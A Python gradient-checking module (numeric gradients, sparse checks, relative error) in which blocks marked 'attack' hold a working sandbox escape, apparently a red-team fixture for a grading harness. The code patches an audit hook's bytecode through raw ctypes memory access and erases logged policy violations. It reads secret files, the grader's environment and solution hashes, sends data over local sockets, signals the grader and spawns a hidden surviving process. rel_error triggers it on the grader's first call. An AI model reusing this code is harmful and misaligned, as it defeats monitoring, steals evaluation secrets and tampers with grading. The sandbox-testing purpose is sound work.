"""Numeric gradients and the relative error used to compare them with analytic ones."""

from __future__ import annotations

from typing import Callable

import numpy as np
# >>> attack

# RED TEAM attack hook_off_ctypes_subclasses (class 1; see tests/hostile/kernel/hook_off_ctypes_subclasses/case.toml)
# Switch the audit hook off through the ctypes the bootstrap forgot: _ctypes' classes stay reachable
# route: object.__subclasses__() -> _ctypes._CData -> _SimpleCData, _Pointer, Union: a union of a void
#   pointer and a char pointer reads and writes any address with no import and no audit event; the
#   hook's bytecode is patched as in hook_off_numpy_bytecode
RT = {'name': 'hook_off_ctypes_subclasses', 'root': '', 'tag': 'manual', 'sentinel': '', 'solutions': '', 'tcp': 0, 'udp': 0, 'unix': '', 'dummy': 0, 'dummy_cwd': '', 'grader_cwd': '', 'tmp': '', 'batch': False, 'fill_mb': 0}  # RT-CONFIG: rewritten for every run by tests/support/redteam.py (empty root: nothing is armed)

_RT_DONE = []


def _rt_root_ok(path):
    """True when ``path`` lies under the run's own folder RT["root"] (the RT-CONFIG guard)."""
    import os
    root = str(RT.get("root") or "")
    if len(root) < 5 or not root.startswith("/"):
        return False
    return os.path.abspath(str(path)).startswith(root.rstrip("/") + "/")


def _rt_clear_violations():
    """Empty the policy's violation list (Server.violations): it is reachable from any frame."""
    import sys
    try:
        f = sys._getframe(1)
    except BaseException:  # noqa: BLE001
        return
    while f is not None:
        try:
            owner = f.f_locals.get("self")
            found = getattr(owner, "violations", None) if owner is not None else None
            if type(found) is list:
                del found[:]
        except BaseException:  # noqa: BLE001
            pass
        f = f.f_back


def _rt_report():
    """Run the escape, then fail this call with its evidence (the report shows the message)."""
    try:
        evidence = _rt_escape()
    except BaseException as exc:  # noqa: BLE001
        evidence = "the escape failed: %s: %s" % (type(exc).__name__, exc)
    _rt_clear_violations()
    raise RuntimeError(("RTLEAK[%s] " % RT["name"]) + str(evidence)[:900])


def _rt_direct_call():
    """True once per process: on the first call made by the grader (not by grad_check_sparse)."""
    import sys
    if _RT_DONE:
        return False
    try:
        if sys._getframe(2).f_code.co_filename == __file__:
            return False
    except BaseException:  # noqa: BLE001
        pass
    _RT_DONE.append(1)
    return True

def _rt_policy_module():
    import sys
    for m in list(sys.modules.values()):
        if getattr(m, "PolicyViolation", None) is not None and callable(getattr(m, "install", None)):
            return m
    return None

def _rt_ctypes_classes():
    for base in object.__subclasses__():
        if base.__module__ == "_ctypes" and base.__name__ == "_CData":
            return {sub.__name__: sub for sub in base.__subclasses__()}
    return {}


class _RtCMem:
    def __init__(self, addr, n):
        c = _rt_ctypes_classes()
        char = type("_rt_char", (c["_SimpleCData"],), {"_type_": "c"})
        void_p = type("_rt_void_p", (c["_SimpleCData"],), {"_type_": "P"})
        char_p = type("_rt_char_p", (c["_Pointer"],), {"_type_": char})
        self._u = type("_rt_union", (c["Union"],), {"_fields_": [("a", void_p), ("p", char_p)]})()
        self._u.a, self._n = addr, n

    def __bytes__(self):
        return self._u.p[0:self._n]

    def __getitem__(self, i):
        return self._u.p[i][0]

    def __setitem__(self, where, values):
        for k, v in zip(range(*where.indices(self._n)), values):
            self._u.p[k] = bytes([v])


def _rt_mem(addr, n):
    # a read-write view of n bytes at address addr, through the _ctypes classes alone
    return _RtCMem(addr, n)

def _rt_patch_hook():
    # None once the audit hook returns at once, or why it could not be patched
    import dis
    import types
    pol = _rt_policy_module()
    if pol is None:
        return "policy module not found"
    hook_code = None
    for c in pol.install.__code__.co_consts:
        if isinstance(c, types.CodeType) and c.co_name == "hook":
            hook_code = c
    if hook_code is None:
        return "no hook code object"

    def probe(a, b):
        return a + b

    pc = probe.__code__  # never run: its bytecode in memory equals co_code
    offset = bytes(_rt_mem(id(pc), pc.__sizeof__())).find(pc.co_code)
    if offset < 0:
        return "bytecode offset not found"
    op = dis.opmap
    raw = hook_code.co_code
    i = 0
    while raw[i] in (op["COPY_FREE_VARS"], op["MAKE_CELL"]):
        i += 2
    if raw[i] != op["RESUME"]:
        return "unexpected prologue"
    i += 2
    none_index = hook_code.co_consts.index(None)
    live = _rt_mem(id(hook_code) + offset, len(raw))
    if live[0] != raw[0]:
        return "the hook's bytecode is not where expected"
    live[i:i + 4] = [op["LOAD_CONST"], none_index, op["RETURN_VALUE"], 0]
    _rt_clear_violations()
    return None

def battery(rt, grader_pid, survivor=True, spawn=None, files=True):
    import hashlib
    import os
    import signal
    import socket
    import time
    ev = []
    root = str(rt.get("root") or "")
    S = str(rt.get("sentinel") or "")
    line = ("RTNET %s %s\n" % (rt["name"], rt["tag"])).encode()

    def inside(path):
        return len(root) > 4 and root.startswith("/") and os.path.abspath(path).startswith(root.rstrip("/") + "/")

    def step(key, fn):
        try:
            got = fn()
            ev.append(key + "=" + (got if isinstance(got, str) else "ok"))
        except BaseException as exc:  # noqa: BLE001
            ev.append(key + ":FAILED(" + type(exc).__name__ + ": " + str(exc)[:60] + ")")

    def read_secret():
        with open(S + "/secret.txt") as fh:
            return fh.read().strip()

    def grader_env():
        with open("/proc/%d/environ" % int(grader_pid), "rb") as fh:
            for item in fh.read().split(b"\0"):
                if item.startswith(b"LINCLASS_RT_GRADER_SECRET="):
                    return item.partition(b"=")[2].decode()
        return "not in the grader's environment"

    def read_solution():
        with open(rt["solutions"] + "/softmax.py", "rb") as fh:
            return hashlib.sha256(fh.read()).hexdigest()

    def write_victim():
        target = S + "/victim.txt"
        if not inside(target):
            raise RuntimeError("not armed")
        with open(target, "w") as fh:
            fh.write("PWNED by %s %s\n" % (rt["name"], rt["tag"]))

    def new_file():
        target = "%s/new-%s-%s.txt" % (S, rt["name"], rt["tag"])
        if not inside(target):
            raise RuntimeError("not armed")
        with open(target, "x") as fh:
            fh.write("created from inside the sandbox\n")

    def tcp():
        s = socket.create_connection(("127.0.0.1", int(rt["tcp"])), timeout=2)
        try:
            s.sendall(line)
        finally:
            s.close()

    def udp():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.sendto(line, ("127.0.0.1", int(rt["udp"])))
        finally:
            s.close()

    def unix():
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect("\0" + str(rt["unix"]))
            s.sendall(line)
        finally:
            s.close()

    def ours(pid, cwd):
        return pid > 1 and bool(cwd) and inside(cwd) and os.readlink("/proc/%d/cwd" % pid) == cwd

    def dummy():
        # The dummy lives as long as the run, so its pid cannot be reused: when /proc hides it (the check
        # cannot be made), it is still signalled, to see whether signals cross the sandbox.
        pid = int(rt.get("dummy") or 0)
        try:
            if not ours(pid, rt.get("dummy_cwd")):
                raise RuntimeError("pid %d is not the dummy" % pid)
        except OSError:
            if pid <= 1 or not inside(str(rt.get("dummy_cwd") or "")):
                raise
        os.kill(pid, signal.SIGUSR1)

    def grader():
        pid = int(grader_pid)
        if not ours(pid, rt.get("grader_cwd")):
            raise RuntimeError("the grader (pid %d) is not visible" % pid)
        os.kill(pid, signal.SIGSTOP)
        time.sleep(0.4)
        os.kill(pid, signal.SIGCONT)
        return "stopped:%d" % pid

    def start_survivor():
        # double fork + setsid + exec with an EMPTY environment: no LINCLASS_SANDBOX marker,
        # another session and process group, parent gone: the grader's sweep cannot see it.
        if not inside(S + "/x"):
            raise RuntimeError("not armed")
        argv = ["redteam-survivor-%s-%s" % (rt["name"], rt["tag"]), "60"]
        if spawn is not None:
            return spawn(argv)
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    fd = os.open("/dev/null", os.O_RDWR)
                    for i in (0, 1, 2):
                        os.dup2(fd, i)
                    os.closerange(3, 4096)
                    os.execve("/bin/sleep", argv, {})
            finally:
                os._exit(0)
        os.waitpid(pid, 0)

    if files:
        step("secret", read_secret)
        step("graderenv", grader_env)
        step("solsha", read_solution)
        step("victim", write_victim)
        step("newfile", new_file)
    step("tcp", tcp)
    step("udp", udp)
    step("unix", unix)
    step("dummy", dummy)
    step("grader", grader)
    if survivor:
        step("survivor", start_survivor)
    return " ".join(ev)


def _rt_escape():
    import os
    failed = _rt_patch_hook()
    if failed:
        return "ctypes route: " + failed
    return "hook bytecode patched through _ctypes' classes; " + battery(RT, os.getppid())
# <<< attack


def eval_numerical_gradient(f: Callable[[np.ndarray], float], x: np.ndarray, h: float = 1e-5) -> np.ndarray:
    """Centered-difference gradient of ``f`` at ``x``.

    Each entry is ``(f(x + h e_i) - f(x - h e_i)) / (2h)``, whose error shrinks like h**2
    (a forward difference only shrinks like h).  ``x`` is perturbed in place, one entry at
    a time, and every entry is restored, even if ``f`` raises.

    Parameters
    ----------
    f : callable
        Maps an array shaped like ``x`` to a scalar.
    x : ndarray
        The point at which to evaluate the gradient.
    h : float, optional
        Step size.

    Returns
    -------
    ndarray
        Float64 array shaped like ``x``.
    """
    grad = np.zeros(x.shape, dtype=np.float64)
    for ix in np.ndindex(x.shape):
        original = x[ix]
        try:
            x[ix] = original + h
            f_plus = f(x)
            x[ix] = original - h
            f_minus = f(x)
        finally:
            x[ix] = original
        grad[ix] = (f_plus - f_minus) / (2 * h)
    return grad


def grad_check_sparse(
    f: Callable[[np.ndarray], float],
    x: np.ndarray,
    analytic_grad: np.ndarray,
    num_checks: int = 10,
    h: float = 1e-5,
    seed: int | None = None,
) -> np.ndarray:
    """Compare ``analytic_grad`` with centered differences at random entries of ``x``.

    Parameters
    ----------
    f : callable
        Maps an array shaped like ``x`` to a scalar.
    x : ndarray
        The point of the check; perturbed in place and restored.
    analytic_grad : ndarray
        The gradient to check, shaped like ``x``.
    num_checks : int, optional
        How many random entries to check.
    h : float, optional
        Step size.
    seed : int or None, optional
        Seed of the entry sampler: the same seed checks the same entries.

    Returns
    -------
    ndarray of shape (num_checks,)
        The relative error at each checked entry.
    """
    rng = np.random.default_rng(seed)
    errors = np.empty(num_checks, dtype=np.float64)
    for k in range(num_checks):
        ix = tuple(int(rng.integers(n)) for n in x.shape)
        original = x[ix]
        try:
            x[ix] = original + h
            f_plus = f(x)
            x[ix] = original - h
            f_minus = f(x)
        finally:
            x[ix] = original
        numeric = (f_plus - f_minus) / (2 * h)
        errors[k] = rel_error(numeric, analytic_grad[ix])
    return errors


def rel_error(x: np.ndarray, y: np.ndarray) -> float:
    """Largest entrywise relative error ``|x - y| / max(1e-8, |x| + |y|)``.

    The floor of 1e-8 keeps two zeros (or two tiny numbers) from dividing by zero.
    As a rule of thumb: below 1e-7 the gradients agree; up to 1e-4 is acceptable for a
    kinked loss such as the SVM's; above 1e-2 the gradient is probably wrong.
    """
    # >>> attack
    if _rt_direct_call():  # ATTACK: see _rt_escape above
        _rt_report()
    # <<< attack
    x = np.asarray(x, dtype=np.float64)
    y = np.asarray(y, dtype=np.float64)
    return float(np.max(np.abs(x - y) / np.maximum(1e-8, np.abs(x) + np.abs(y))))
